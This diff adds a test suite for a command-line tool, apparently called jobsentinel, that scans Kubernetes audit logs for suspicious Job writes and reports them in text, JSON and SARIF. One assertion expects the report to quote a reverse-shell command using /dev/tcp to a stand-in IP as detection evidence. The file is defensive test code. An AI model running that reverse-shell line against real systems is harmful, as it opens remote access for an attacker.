@@ -1,0 +1,130 @@
+import assert from 'node:assert/strict';
+import { gzipSync } from 'node:zlib';
+import { describe, test } from 'node:test';
+import { FORMATS } from '../../core/test/fixtures/audit/canonical.ts';
+import { run, runJson, workspace } from './helpers.ts';
+
+const KUBE = FORMATS['kube-apiserver JSON lines (v1)']();
+const MATCHED = ['a-denied', 'a-json-patch', 'a-merge-patch', 'a-privileged', 'a-response-only', 'a-revshell'];
+const CLEAN = KUBE.split('\n').filter((line) => line.includes('"a-benign"')).join('\n') + '\n';
+
+describe('jobsentinel audit', () => {
+  test('--format json prints the SPEC object: matches with file and line, and the summary', () => {
+    const dir = workspace({ 'logs/audit.log': KUBE });
+    const { status, json } = runJson(['audit', 'logs/audit.log'], { cwd: dir });
+    assert.equal(status, 1);
+    assert.equal(json.version, 1);
+    assert.deepEqual(json.matches.map((match: { auditID: string }) => match.auditID).sort(), MATCHED);
+    const first = json.matches.find((match: { auditID: string }) => match.auditID === 'a-privileged');
+    assert.deepEqual(Object.keys(first), ['file', 'line', 'auditID', 'stage', 'timestamp', 'verb', 'resource', 'namespace', 'name', 'user', 'sourceIPs', 'userAgent', 'outcome', 'indicators']);
+    assert.deepEqual([first.file, first.line, first.stage], ['logs/audit.log', 2, 'ResponseComplete']);
+    assert.deepEqual(Object.keys(first.indicators[0]), ['indicator', 'severity', 'message', 'path', 'evidence']);
+    assert.deepEqual(json.summary, { events: 22, jobWrites: 8, matches: 6, uninspectable: 1, malformed: 0, duplicates: 8 });
+    assert.deepEqual(json.errors, []);
+  });
+
+  test('exit 0 when nothing matches', () => {
+    const dir = workspace({ 'clean.log': CLEAN });
+    assert.equal(run(['audit', 'clean.log'], { cwd: dir }).status, 0);
+  });
+
+  test('reads standard input with -, and by default; gzip is recognised there too', () => {
+    const dash = runJson(['audit', '-'], { input: KUBE });
+    assert.equal(dash.json.summary.matches, 6);
+    assert.equal(dash.json.matches[0].file, '<stdin>');
+    const implicit = runJson(['audit', '--stdin-name', 'cluster.log.gz'], { input: gzipSync(KUBE) });
+    assert.equal(implicit.status, 1);
+    assert.equal(implicit.json.matches[0].file, 'cluster.log.gz');
+  });
+
+  test('several files, each format recognised by content', () => {
+    const dir = workspace({
+      'gke.json': FORMATS['GKE Cloud Audit Logs (gcloud logging read: an array)'](),
+      'eks.json': FORMATS['EKS aws logs filter-log-events document'](),
+      'aks.log.gz': gzipSync(FORMATS['AKS diagnostic export (properties.log)']()),
+    });
+    const { json } = runJson(['audit', 'gke.json', 'eks.json', 'aks.log.gz'], { cwd: dir });
+    assert.equal(json.summary.matches, 18);
+    for (const file of ['gke.json', 'eks.json', 'aks.log.gz']) {
+      assert.deepEqual(json.matches.filter((match: { file: string }) => match.file === file).map((match: { auditID: string }) => match.auditID).sort(), MATCHED);
+    }
+  });
+
+  test('exit 2 for a file that cannot be read; the other files are still scanned', () => {
+    const dir = workspace({ 'audit.log': KUBE });
+    const { status, json } = runJson(['audit', 'missing.log', 'audit.log'], { cwd: dir });
+    assert.equal(status, 2);
+    assert.equal(json.summary.matches, 6);
+    assert.equal(json.errors[0].file, 'missing.log');
+    assert.match(json.errors[0].message, /cannot read: .*no such file/i);
+  });
+
+  test('exit 2 for a file that is not an audit log, with the accepted formats', () => {
+    const dir = workspace({ 'cronjob.yaml': 'apiVersion: batch/v1\nkind: CronJob\n' });
+    const result = run(['audit', 'cronjob.yaml'], { cwd: dir });
+    assert.equal(result.status, 2);
+    assert.match(result.stdout, /cronjob\.yaml:1: error: not an audit log: .*Accepted formats: kube-apiserver/);
+  });
+
+  test('the text report: per match when, who, what, the outcome and the evidence; then the summary and the advice', () => {
+    const dir = workspace({ 'audit.log': KUBE });
+    const { status, stdout } = run(['audit', 'audit.log'], { cwd: dir });
+    assert.equal(status, 1);
+    assert.match(stdout, /^audit\.log:\d+ {2}\d{4}-\d\d-\d\dT[\d:.]+Z {2}DENIED {2}audit ID a-denied$/m);
+    assert.match(stdout, /^ {2}mallory@example\.com create jobs payments\/sync {2}\(10\.0\.0\.7, kubectl\/v1\.30\.1\)$/m);
+    assert.match(stdout, /^ {4}error {7}shell-escape +bash -i >& \/dev\/tcp\/198\.51\.100\.7\/4444 0>&1/m);
+    assert.match(stdout, /^6 suspicious job writes \(1 denied\) in 8 job writes among 22 events \(1 file, structural mode, kube-apiserver\)\.$/m);
+    assert.match(stdout, /1 job write was logged without a body \(Metadata level\) .* level: RequestResponse/);
+    assert.doesNotMatch(stdout, /\u001b\[/, 'no colour when stdout is not a terminal');
+  });
+
+  test('--format sarif: one result per indicator hit at the log line, with the rules of the manifests', () => {
+    const dir = workspace({ 'audit.log': KUBE });
+    const { status, stdout } = run(['audit', 'audit.log', '--format', 'sarif'], { cwd: dir });
+    assert.equal(status, 1);
+    const sarif = JSON.parse(stdout);
+    assert.equal(sarif.version, '2.1.0');
+    const [runLog] = sarif.runs;
+    assert.ok(runLog.tool.driver.rules.some((rule: { id: string }) => rule.id === 'privileged-container'));
+    const result = runLog.results.find((entry: { properties: { auditID: string } }) => entry.properties.auditID === 'a-privileged');
+    assert.equal(result.ruleId, 'privileged-container');
+    assert.equal(runLog.tool.driver.rules[result.ruleIndex].id, 'privileged-container');
+    assert.deepEqual(result.locations[0].physicalLocation.artifactLocation, { uri: 'audit.log', uriBaseId: 'SRCROOT' });
+    assert.equal(result.locations[0].physicalLocation.region.startLine, 2);
+    const hits = runJson(['audit', 'audit.log'], { cwd: dir }).json.matches.reduce((count: number, match: { indicators: unknown[] }) => count + match.indicators.length, 0);
+    assert.equal(runLog.results.length, hits);
+    assert.match(runLog.invocations[0].toolExecutionNotifications.at(-1).message.text, /1 job writes were logged without their body/);
+  });
+
+  test('--mode elastic runs the seed rule over the raw events', () => {
+    const dir = workspace({ 'audit.log': KUBE });
+    const { json } = runJson(['audit', 'audit.log', '--mode', 'elastic'], { cwd: dir });
+    assert.equal(json.mode, 'elastic');
+    assert.ok(json.summary.matches > 6);
+    assert.ok(json.matches.some((match: { auditID: string }) => match.auditID === 'a-status'));
+  });
+
+  test('--config: ignore entries with users: apply; the nearest .jobsentinel.yaml is used otherwise', () => {
+    const config = 'ignore:\n  - users: ["mallory@example.com"]\n';
+    const dir = workspace({ 'logs/audit.log': KUBE, 'logs/.jobsentinel.yaml': config, 'tuning.yaml': 'ignore:\n  - namespaces: [payments]\n    indicators: [privileged-container]\n' });
+    assert.equal(runJson(['audit', 'logs/audit.log'], { cwd: dir }).json.summary.matches, 0, 'found from the log\u2019s folder');
+    const explicit = runJson(['audit', 'logs/audit.log', '--config', 'tuning.yaml'], { cwd: dir });
+    assert.deepEqual(explicit.json.matches.map((match: { auditID: string }) => match.auditID).sort(), MATCHED.filter((id) => id !== 'a-privileged'));
+  });
+
+  test('bad usage exits 2 with a pointer to --help', () => {
+    for (const args of [['audit', '--mode', 'fuzzy'], ['audit', '--format', 'xml'], ['audit', '--bogus']]) {
+      const result = run(args, { input: KUBE });
+      assert.equal(result.status, 2);
+      assert.match(result.stderr, /jobsentinel audit: .*\nRun `jobsentinel audit --help` for usage\./);
+    }
+  });
+
+  test('--help describes the formats, modes and exit statuses', () => {
+    const { status, stdout } = run(['audit', '--help']);
+    assert.equal(status, 0);
+    assert.match(stdout, /GKE Cloud Audit Logs/);
+    assert.match(stdout, /--mode MODE/);
+    assert.match(stdout, /Exit status:/);
+  });
+});
